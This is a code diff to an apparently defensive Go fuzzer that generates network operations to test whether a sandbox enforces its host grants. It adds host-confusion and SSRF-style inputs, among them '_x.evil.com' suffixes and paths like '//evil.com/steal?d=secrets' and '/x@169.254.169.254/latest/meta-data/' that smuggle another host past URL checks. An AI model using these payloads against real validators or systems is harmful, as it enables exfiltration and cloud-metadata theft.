@@ -87,11 +87,15 @@ func unknownHostOp(src Source, sc *scenario.Scenario) core.Op {
 }
 
 // relatedHost is another name built from a granted one: a suffix, prefix,
-// subdomain or parent.
+// subdomain or parent, or the name with "_" and another domain after it.
 func relatedHost(src Source, h string) string {
-	switch src.Intn(4) {
+	switch src.Intn(5) {
 	case 0:
 		return h + ".evil.com"
+	case 4:
+		// "_" ends a host read with a pattern of [a-z0-9.-] where a URL
+		// parser and the resolver go on, to the attacker's domain.
+		return h + "_x.evil.com"
 	case 1:
 		return "evil" + h
 	case 2:
@@ -279,8 +283,12 @@ func rebindOp(src Source, sc *scenario.Scenario) core.Op {
 // allowed, and its answer names a Location (an internal address, a
 // metadata endpoint, an ungranted host) that a sandbox that follows
 // redirects must check as it checked the first. With no such route, a
-// granted host's redirect path, which no route answers.
+// granted host's redirect path, which no route answers. Now and then a
+// path that carries another host (authorityPaths).
 func redirectOp(src Source, sc *scenario.Scenario) core.Op {
+	if oneIn(src, 5) {
+		return fetch(src, grantedOr(src, sc), pick(src, authorityPaths))
+	}
 	routes := sc.World.Routes
 	for i, j := 0, src.Intn(len(routes)+1); i < len(routes); i++ {
 		r := routes[(i+j)%len(routes)]
@@ -290,6 +298,13 @@ func redirectOp(src Source, sc *scenario.Scenario) core.Op {
 	}
 	return fetch(src, anyHost(src, sc), redirectPath)
 }
+
+// authorityPaths are paths of a granted host that carry another host,
+// which a sandbox that joins the path to a base URL (a network-path
+// reference), or cuts a user-info at its first "@", fetches instead: the
+// fetch is the granted host's, its path a route of none.
+var authorityPaths = []string{"//evil.com/steal?d=secrets", "//169.254.169.254/latest/meta-data/",
+	"/x@evil.com/steal?d=secrets", "/?u=x@169.254.169.254/latest/meta-data/", "///evil.com/steal?d=secrets"}
 
 // grantedOr is a safe granted host when there is one, else any host.
 func grantedOr(src Source, sc *scenario.Scenario) string {
